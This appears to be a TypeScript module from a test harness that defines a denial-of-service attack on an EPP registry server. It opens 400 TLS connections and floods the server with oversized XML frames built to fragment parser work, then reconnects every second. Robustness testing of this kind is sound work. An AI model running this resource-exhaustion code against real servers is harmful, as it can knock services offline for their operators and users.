import { framed } from '../epp.ts';
import type { Attack } from './attack.ts';
import { holdOpen, openSecure } from './raw-connection.ts';

const CONNECTIONS = 400;
const REOPEN_AFTER_MS = 1_000;
/** The most that is read of a stranger, and what was. */
const SIZES = [8_000, 64_000];
const PIECES = [
  ['<epp><!--', '- ', '--></epp>'],
  ['<epp a="', '\t\n', '"/>'],
  ['<epp><?a ', '? ', '?></epp>'],
  ['<epp>', '&lt;', '</epp>'],
  ['<epp>', '<a/>', '</epp>'],
] as const;

/** 400 connections of one address that send frames of which a parser makes many pieces, and begin again. */
export const eppStrangers: Attack = {
  name: 'EPP strangers',
  start: ({ eppPort = 0 }) => {
    const frames = SIZES.flatMap((size) =>
      PIECES.map(([start, piece, end]) => framed(start + piece.repeat(size / piece.length) + end)),
    );
    return holdOpen(
      CONNECTIONS,
      (index) => {
        const socket = openSecure(eppPort);
        socket.resume();
        socket.once('secureConnect', () => {
          for (let sent = 0; sent < 4; sent += 1) {
            const frame = frames[(index + sent) % frames.length];
            if (frame) socket.write(frame);
          }
        });
        return socket;
      },
      REOPEN_AFTER_MS,
    );
  },
};
